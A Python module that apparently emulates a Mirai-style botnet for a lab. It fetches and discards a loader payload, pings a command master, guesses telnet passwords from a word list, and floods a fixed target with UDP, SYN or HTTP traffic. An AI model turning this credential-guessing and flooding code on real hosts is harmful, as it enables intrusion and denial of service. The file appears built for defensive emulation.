"""The life of a bot, harmless: what it fetches is not run, what it finds is not kept, whom it floods was told.

It lives in four strands that share one pace: its program is fetched once, a master is pinged, telnet doors are sought
and tried, and an order of the master is carried out against the one target of the command line. The trap: the order
names only the manner; whom it meets, how often and how fast stands in the command line, never in what a server says.
"""

from __future__ import annotations

import contextlib
import itertools
import socket
import threading

from lab.bots.pace import Pace, Told

KNOCK_S = 0.8  # nobody behind a door that is silent for so long is worth waiting for
ORDER_SHARE = 0.4  # of all turns, for the attack on command


def fetch(told: Told) -> int:
    """Fetch the program of the bot from the loader and throw it away; return its size in bytes."""
    size_bytes = 0
    with told.connect_to(*told.loader) as line:
        line.sendall(f"GET /{told.file} HTTP/1.0\r\nHost: {told.loader[0]}\r\nUser-Agent: hello\r\n\r\n".encode())
        while chunk := line.recv(65536):
            size_bytes += len(chunk)
    return size_bytes


def _try_login(line: socket.socket, told: Told) -> None:
    """Try two passwords of the list and ask whoever lets us in to name itself."""
    for _ in range(2):
        user, _, password = told.rng.choice(told.words).partition(":")
        for text in (user, password):
            line.recv(512)
            line.sendall(f"{text}\r\n".encode())
    line.recv(512)
    line.sendall(b"/bin/busybox HELLO\r\nexit\r\n")
    line.recv(512)


def search(told: Told, pace: Pace) -> None:
    """Knock at the doors of the addresses told, each in turn; where one opens, try to log in."""
    for target in itertools.cycle(told.targets):
        if not pace.turn():
            return
        port = told.ports[0] if told.rng.random() < 0.9 else told.rng.choice(told.ports)
        with contextlib.suppress(OSError), told.connect_to(target, port, patience_s=KNOCK_S) as line:
            _try_login(line, told)


def attack(told: Told, order: str) -> None:
    """Carry out an order against the target of the command line, within its pace."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        while told.pace.turn():
            with contextlib.suppress(OSError):
                if order == "udp":
                    datagrams.sendto(told.rng.randbytes(512), (told.target, told.port))
                elif order == "syn":
                    told.connect_to(told.target, told.port, patience_s=0.05).close()
                else:
                    with told.connect() as line:
                        line.sendall(f"GET / HTTP/1.0\r\nHost: {told.target}\r\n\r\n".encode())
                        line.recv(8192)


def obey(told: Told, done: threading.Event) -> None:
    """Ping the master at gaps of `hold_s` until the life is over; carry out the first order that is known."""
    with contextlib.suppress(OSError), told.connect_to(*told.master) as line:
        line.sendall(f"HELLO {told.rng.getrandbits(32):08x}\n".encode())
        line.recv(256)
        is_obedient = True
        while not done.wait(told.hold_s * told.rng.uniform(1.0 - told.jitter, 1.0 + told.jitter)):
            line.sendall(b"PING\n")
            verb, _, order = line.recv(256).decode("latin-1").strip().partition(" ")
            if verb == "ORDER" and order in ("udp", "syn", "get") and is_obedient:
                is_obedient = False
                attack(told, order)


def mirai_life(told: Told) -> None:
    """Live until all turns are used up: some for the search, the rest for the attack on command."""
    with contextlib.suppress(OSError):
        fetch(told)
    turns = told.pace.left
    searching = Pace(count=int(turns * (1 - ORDER_SHARE)), per_s=told.pace.per_s, rng=told.rng)
    told.pace.left = turns - searching.left
    done = threading.Event()
    master = threading.Thread(target=obey, args=(told, done), daemon=True)
    master.start()
    search(told, searching)
    done.wait(told.hold_s * 2)
    done.set()
    master.join(timeout=60.0)
